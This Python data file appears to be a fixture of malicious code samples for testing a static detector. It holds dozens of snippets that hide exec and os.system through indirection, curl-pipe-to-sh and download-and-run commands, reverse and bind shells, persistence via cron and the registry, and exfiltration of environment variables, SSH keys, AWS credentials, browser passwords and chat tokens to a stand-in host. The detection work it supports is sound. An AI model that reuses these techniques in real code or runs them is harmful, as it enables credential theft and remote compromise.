"""Malicious samples of our own writing, to be judged and never run: one way each to hide what one file does."""

# What is sent or run is nothing, and the hosts are reserved names; each is what a judge sees of the real thing.

SAMPLES: dict[str, str] = {
    "an attribute of the object": """\
import base64
class A:
    def __init__(self):
        self.go = exec
    def run(self):
        self.go(base64.b64decode('eA=='))
""",
    "an attribute of the class": """\
import base64
class A:
    go = exec
A.go(base64.b64decode('eA=='))
""",
    "out of a table": """\
import base64
d={'a':exec}
d['a'](base64.b64decode('eA=='))
""",
    "out of a table by get": """\
import base64
d={'a':exec}
d.get('a')(base64.b64decode('eA=='))
""",
    "out of a list": """\
import base64
[exec][0](base64.b64decode('eA=='))
""",
    "out of a choice": """\
import base64
(exec if 1 else print)(base64.b64decode('eA=='))
""",
    "a default of a parameter": """\
import base64
def f(x, g=exec):
    g(x)
f(base64.b64decode('eA=='))
""",
    "handed to map": """\
import base64
list(map(exec,[base64.b64decode('eA==')]))
""",
    "handed to a thread": """\
import base64,threading
threading.Thread(target=exec,args=(base64.b64decode('eA=='),)).start()
""",
    "a partial function": """\
import base64,functools
functools.partial(exec, base64.b64decode('eA=='))()
""",
    "a partial function under a name": """\
import base64,functools
p=functools.partial(exec)
p(base64.b64decode('eA=='))
""",
    "in a lambda": """\
import base64
f=lambda x: exec(x)
f(base64.b64decode('eA=='))
""",
    "handed to a lambda": """\
import base64
(lambda e: e(base64.b64decode('eA==')))(exec)
""",
    "as a decorator": """\
@exec
def x(): ...
""",
    "behind an index": """\
class A:
    __getitem__ = exec
A()['x']
""",
    "behind an index of a class": """\
class A:
    __class_getitem__ = exec
A['import os']
""",
    "out of vars": """\
import os
vars(os)['sys'+'tem']('ls')
""",
    "out of a module's dictionary": """\
import os
os.__dict__['sys'+'tem']('ls')
""",
    "out of globals": """\
import os
globals()['o'+'s'].system('ls')
""",
    "out of a function's globals": """\
def f(): ...
f.__globals__['__builtins__']['ex'+'ec']('x')
""",
    "by __getattribute__": """\
import os
os.__getattribute__('sys'+'tem')('ls')
""",
    "by the object's __getattribute__": """\
import os
object.__getattribute__(os,'sys'+'tem')('ls')
""",
    "by attrgetter": """\
import os,operator
operator.attrgetter('system')(os)('curl http://x.example | sh')
""",
    "a name in two variables": """\
import os
a='sys'
b='tem'
getattr(os,a+b)('ls')
""",
    "a name that grows": """\
import os
a='sys'
a+='tem'
getattr(os,a)('ls')
""",
    "a name that is overwritten later": """\
import os
a='system'
getattr(os,a)('ls')
a='path'
""",
    "a joined name": """\
import os
getattr(os,''.join(['s','ystem']))('ls')
""",
    "a formatted name": """\
import os
getattr(os,f"{'sys'}tem")('ls')
""",
    "a reversed name": """\
import os
getattr(os,''.join(reversed('metsys')))('ls')
""",
    "an encoded name": """\
import os,base64
getattr(os,base64.b64decode('c3lzdGVt').decode())('ls')
""",
    "a name in hex": """\
import os
getattr(os,bytes.fromhex('73797374656d').decode())('ls')
""",
    "a name of characters": """\
import os
getattr(os,chr(115)+'ystem')('ls')
""",
    "a name with letters replaced": """\
import os
getattr(os,'sXstem'.replace('X','y'))('ls')
""",
    "a module by importlib": """\
import importlib
importlib.import_module('sub'+'process').run(['ls'])
""",
    "a module by an alias of importlib": """\
from importlib import import_module as i
i('so'+'cket').socket()
""",
    "out of sys.modules": """\
import sys
sys.modules['o'+'s'].system('ls')
""",
    "out of sys.modules by get": """\
import sys
sys.modules.get('o'+'s').system('ls')
""",
    "code in text": """\
exec("import os; os.system('curl http://x.example | sh')")
""",
    "code in text that is evaluated": """\
eval("__import__('os').system('curl http://x.example | sh')")
""",
    "code in text that is put together": """\
exec('imp'+'ort os; os.system("ls")')
""",
    "code in text that is compiled": """\
c=compile("import os; os.system('curl http://x.example | sh')",'','exec')
exec(c)
""",
    "another interpreter": """\
import subprocess,sys
subprocess.run([sys.executable,'-c','import os; exec(__import__("base64").b64decode("eA=="))'])
""",
    "a command in pieces": """\
import os
os.system('cu'+'rl http://x | s'+'h')
""",
    "a command in a variable": """\
import os
c='curl http://x.example | sh'
os.system(c)
""",
    "a command as a list": """\
import subprocess
subprocess.run(['bash','-c','curl http://x.example | sh'])
""",
    "wide letters": """\
\uff45\uff58\uff45\uff43(__import__('base64').b64decode('eA=='))
""",
    "through a parameter": """\
import base64
def run(c):
    exec(c)
run(base64.b64decode('eA=='))
""",
    "through a method": """\
import base64
class A:
    def run(self, c):
        exec(c)
    def go(self):
        self.run(base64.b64decode('eA=='))
""",
    "handed to starmap": """\
import itertools,os
list(itertools.starmap(os.system,[('curl http://x.example | sh',)]))
""",
    "at exit": """\
import atexit,os
atexit.register(os.system,'curl http://x.example | sh')
""",
    "assigned on the way": """\
import base64
(e:=exec)(base64.b64decode('eA=='))
""",
    "unpacked": """\
import base64
a, b = exec, print
a(base64.b64decode('eA=='))
""",
    "by a loop": """\
import base64
for f in (exec,):
    f(base64.b64decode('eA=='))
""",
    "set as an attribute": """\
import base64
class A: ...
setattr(A,'go',exec)
A.go(base64.b64decode('eA=='))
""",
    "in a class made at run time": """\
import base64
A=type('A',(),{'go':exec})
A.go(base64.b64decode('eA=='))
""",
    "as another builtin": """\
import builtins,base64
builtins.print=exec
print(base64.b64decode('eA=='))
""",
    "as a hook": """\
import sys
sys.excepthook=exec
""",
    "through all subclasses": """\
k = ().__class__.__base__.__subclasses__()[100]
k.__init__.__globals__['sys'].modules['os'].system('curl http://x.example | sh')
""",
    "a decoded name": """\
import os,base64
n=base64.b64decode(open('x').read()).decode()
getattr(os,n)('ls')
""",
    "marshalled in a data file": """\
import marshal
exec(marshal.loads(open('x.dat','rb').read()))
""",
    "in a resource": """\
import importlib.resources as r
exec(r.read_text('p','x.txt'))
""",
    "in package data": """\
import pkgutil
exec(pkgutil.get_data('p','x.bin'))
""",
    "an asynchronous shell": """\
import asyncio
asyncio.create_subprocess_shell('curl http://x.example | sh')
""",
    "a function of byte code": """\
import types,marshal,base64
types.FunctionType(marshal.loads(base64.b64decode('eA==')),globals())()
""",
    "an interpreter of its own": """\
import code,base64
code.InteractiveInterpreter().runsource(base64.b64decode('eA==').decode())
""",
    "downloaded and run as a file": """\
import runpy,requests
open('/tmp/zz.py','wb').write(requests.get('http://x.example').content)
runpy.run_path('/tmp/zz.py')
""",
    "downloaded and imported": """\
import sys,requests,importlib
open('/tmp/zz.py','wb').write(requests.get('http://x.example').content)
sys.path.insert(0,'/tmp')
import zz
""",
    "through the C library": """\
import ctypes
ctypes.CDLL(None).system(b'curl http://x.example | sh')
""",
    "a name in other letters": """\
import os
\u043es = os
\u043es.system('ls')
""",
    "one of two clients": """\
try:
    import requests as r
except ImportError:
    import httpx as r
exec(r.get('http://x.example').text)
""",
    "in a class body": """\
import base64
class A:
    exec(base64.b64decode('eA=='))
""",
    "in a comprehension": """\
import base64
[exec(x) for x in [base64.b64decode('eA==')]]
""",
    "by a session": """\
import requests
s=requests.Session()
exec(s.get('http://x.example').text)
""",
    "by an asynchronous session": """\
import aiohttp
async def f():
    async with aiohttp.ClientSession() as s:
        async with s.get('http://x.example') as r:
            exec(await r.text())
""",
    "by an asynchronous client": """\
import httpx
async def f():
    async with httpx.AsyncClient() as c:
        r = await c.get('http://x.example')
        exec(r.text)
""",
    "a copy of the environment": """\
import os,requests
d=os.environ.copy()
requests.post('http://x.example',json=d)
""",
    "the environment item by item": """\
import os,requests
d={k:v for k,v in os.environ.items()}
requests.post('http://x.example',json=d)
""",
    "the environment by a socket": """\
import os,socket
s=socket.create_connection(('h',1))
s.sendall(str(dict(os.environ)).encode())
""",
    "a key by a socket": """\
import os,socket
s=socket.create_connection(('h',1))
s.send(open(os.path.expanduser('~/.ssh/id_rsa')).read().encode())
""",
}

# Written when the rules were done: 21 of these 40 were found then. Each is a path and a text.
LATER: dict[str, tuple[str, str]] = {
    "a command of setup that sends": (
        "setup.py",
        """\
from setuptools import setup
from setuptools.command.install import install
import os, platform, json
from urllib import request
class P(install):
    def run(self):
        install.run(self)
        d={'h':platform.node(),'u':os.getlogin(),'e':dict(os.environ)}
        request.urlopen(request.Request('http://x.example',data=json.dumps(d).encode()))
setup(name='a',cmdclass={'install':P})
""",
    ),
    "tokens of a chat": (
        "a.py",
        """\
import os,re,requests
p=os.getenv('APPDATA')+'\\\\discord\\\\Local Storage\\\\leveldb'
t=[]
for f in os.listdir(p):
    for l in open(p+'\\\\'+f,errors='ignore'):
        t+=re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}',l)
requests.post('https://discord.com/api/webhooks/1/x',json={'content':str(t)})
""",
    ),
    "an encoded command": (
        "a.py",
        """\
import subprocess
subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcA',shell=True)
""",
    ),
    "decrypted": (
        "a.py",
        """\
from cryptography.fernet import Fernet
exec(Fernet(b'k').decrypt(b'd'))
""",
    ),
    "decrypted by an object": (
        "a.py",
        """\
from cryptography.fernet import Fernet
f=Fernet(b'k')
exec(f.decrypt(b'd'))
""",
    ),
    "a temporary file that is run": (
        "a.py",
        """\
import tempfile,os,sys
from urllib.request import urlopen as o
t=tempfile.NamedTemporaryFile(delete=False)
t.write(o('http://x.example').read())
t.close()
os.system(f'start pythonw {t.name}')
""",
    ),
    "a temporary file that fetches and runs": (
        "a.py",
        """\
import tempfile,os
from sys import executable
t=tempfile.NamedTemporaryFile(delete=False)
t.write(b"from urllib.request import urlopen as o;exec(o('http://x.example').read())")
t.close()
os.system(f'start {executable} {t.name}')
""",
    ),
    "the clipboard": (
        "a.py",
        """\
import pyperclip,re,time
while 1:
    c=pyperclip.paste()
    if re.match('^bc1',c): pyperclip.copy('bc1evil')
    time.sleep(1)
""",
    ),
    "the environment in a host name": (
        "a.py",
        """\
import socket,os,base64
d=base64.b32encode(str(dict(os.environ)).encode()).decode()
socket.gethostbyname(d[:60]+'.x.example')
""",
    ),
    "run when it is unpickled": (
        "a.py",
        """\
import pickle,os
class A:
    def __reduce__(self):
        return os.system,('curl http://x.example|sh',)
pickle.loads(pickle.dumps(A()))
""",
    ),
    "a timetable": (
        "a.py",
        """\
import subprocess
subprocess.run('(crontab -l; echo "* * * * * curl http://x.example|sh")|crontab -',shell=True)
""",
    ),
    "the registry": (
        "a.py",
        """\
import winreg,sys
k=winreg.OpenKey(winreg.HKEY_CURRENT_USER,r'Software\\Microsoft\\Windows\\CurrentVersion\\Run',0,winreg.KEY_ALL_ACCESS)
winreg.SetValueEx(k,'a',0,winreg.REG_SZ,sys.argv[0])
""",
    ),
    "all keys of a folder": (
        "a.py",
        """\
import glob,os,requests
for f in glob.glob(os.path.expanduser('~/.ssh/*')):
    requests.post('http://x.example',files={'f':open(f,'rb')})
""",
    ),
    "credentials by a parser of settings": (
        "a.py",
        """\
import configparser,os,requests
c=configparser.ConfigParser()
c.read(os.path.expanduser('~/.aws/credentials'))
requests.post('http://x.example',json={s:dict(c[s]) for s in c.sections()})
""",
    ),
    "a shell on a socket": (
        "a.py",
        """\
import socket,subprocess,os
s=socket.socket()
s.connect(('h',1))
[os.dup2(s.fileno(),f) for f in (0,1,2)]
import pty
pty.spawn('sh')
""",
    ),
    "commands by a socket": (
        "a.py",
        """\
import socket,subprocess
s=socket.socket()
s.connect(('h',1))
while 1:
    c=s.recv(1024).decode()
    p=subprocess.Popen(c,shell=True,stdout=-1)
    s.send(p.stdout.read())
""",
    ),
    "a shell that listens": (
        "a.py",
        """\
import socket,subprocess
s=socket.socket()
s.bind(('',4444))
s.listen()
c,_=s.accept()
subprocess.call(['/bin/sh','-i'],stdin=c.fileno(),stdout=c.fileno(),stderr=c.fileno())
""",
    ),
    "decoded in a loop": (
        "a.py",
        """\
import zlib,base64
x='eA=='
for _ in range(5):
    x=zlib.decompress(base64.b64decode(x[::-1])).decode()
exec(x)
""",
    ),
    "decoded by numbers": (
        "a.py",
        """\
k=7
d=bytes([110,106])
exec(bytes(b^k for b in d))
""",
    ),
    "decoded in a lambda": (
        "a.py",
        """\
_=lambda __:__import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'x'))
""",
    ),
    "byte code in text": (
        "a.py",
        """\
eval(compile(__import__('marshal').loads(__import__('zlib').decompress(b'x')),'','exec'))
""",
    ),
    "a command by an asynchronous session": (
        "a.py",
        """\
import asyncio,aiohttp
async def m():
    async with aiohttp.ClientSession() as s:
        r=await s.get('http://x.example')
        await asyncio.create_subprocess_shell(await r.text())
asyncio.run(m())
""",
    ),
    "a script host": (
        "a.py",
        """\
import os
os.system('mshta http://x.example/a.hta')
""",
    ),
    "machine code": (
        "a.py",
        """\
import ctypes,urllib.request
b=urllib.request.urlopen('http://x.example').read()
m=ctypes.windll.kernel32.VirtualAlloc(0,len(b),0x3000,0x40)
ctypes.windll.kernel32.RtlMoveMemory(m,b,len(b))
ctypes.windll.kernel32.CreateThread(0,0,m,0,0,0)
""",
    ),
    "machine code in a map": (
        "a.py",
        """\
import ctypes,mmap
b=mmap.mmap(-1,99,prot=7)
b.write(b'\\x90')
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(b)))()
""",
    ),
    "passwords of a browser": (
        "a.py",
        """\
import os,sqlite3,shutil,requests
p=os.path.expanduser('~')+'/AppData/Local/Google/Chrome/User Data/Default/Login Data'
shutil.copy(p,'x.db')
r=sqlite3.connect('x.db').execute('select * from logins').fetchall()
requests.post('http://x.example',json=str(r))
""",
    ),
    "a key in a message": (
        "a.py",
        """\
import requests,os
k=open(os.path.expanduser('~/.ssh/id_ed25519')).read()
requests.get(f'https://api.telegram.org/bot1/sendMessage?text={k}')
""",
    ),
    "run by a pool": (
        "a.py",
        """\
import urllib3
h=urllib3.PoolManager()
exec(h.request('GET','http://x.example').data)
""",
    ),
    "run by a plain client": (
        "a.py",
        """\
import http.client
c=http.client.HTTPSConnection('x.example')
c.request('GET','/')
exec(c.getresponse().read())
""",
    ),
    "run by a callback": (
        "a.py",
        """\
import ftplib,io
b=io.BytesIO()
ftplib.FTP('x.example').retrbinary('RETR a',b.write)
exec(b.getvalue())
""",
    ),
    "a hook of imports": (
        "a.py",
        """\
import sys
class F:
    def find_spec(self,n,p,t=None): return None
sys.meta_path.insert(0,F())
""",
    ),
    "a command that writes where a shell begins": (
        "a.py",
        """\
import subprocess
subprocess.run(['tee','-a','/root/.bashrc'],input=b'evil')
""",
    ),
    "fetched and run by a command": (
        "a.py",
        """\
import os
os.system('wget http://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a')
""",
    ),
    "fetched and run by commands": (
        "a.py",
        """\
import subprocess
subprocess.call('curl -o /tmp/a http://x.example/a; chmod 755 /tmp/a; /tmp/a',shell=True)
""",
    ),
    "a program": (
        "a.py",
        """\
import requests,subprocess
r=requests.get('http://x.example/a.exe')
with open('a.exe','wb') as f: f.write(r.content)
subprocess.Popen(['a.exe'])
""",
    ),
    "an installation": (
        "a.py",
        """\
import subprocess,sys
subprocess.check_call([sys.executable,'-m','pip','install','git+http://x.example/e'])
""",
    ),
    "a word home at installation": (
        "setup.py",
        """\
import socket,os,urllib.request
urllib.request.urlopen('http://x.example/?h='+socket.gethostname())
from setuptools import setup
setup()
""",
    ),
    "far to the right": (
        "a.py",
        """\
import os                                                                                          ;os.system('id')
""",
    ),
    "the environment in a loop": (
        "a.py",
        """\
import os,requests
for k in os.environ:
    requests.get('http://x.example/'+k+os.environ[k])
""",
    ),
    "a decoded builtin": (
        "a.py",
        """\
import builtins,base64
getattr(builtins,base64.b64decode(b'ZXhlYw==').decode())(base64.b64decode(b'eA=='))
""",
    ),
}

# What no rule finds, as good code does the same: it is the purpose that is bad.
GAPS = ("run by a callback", "a hook of imports")
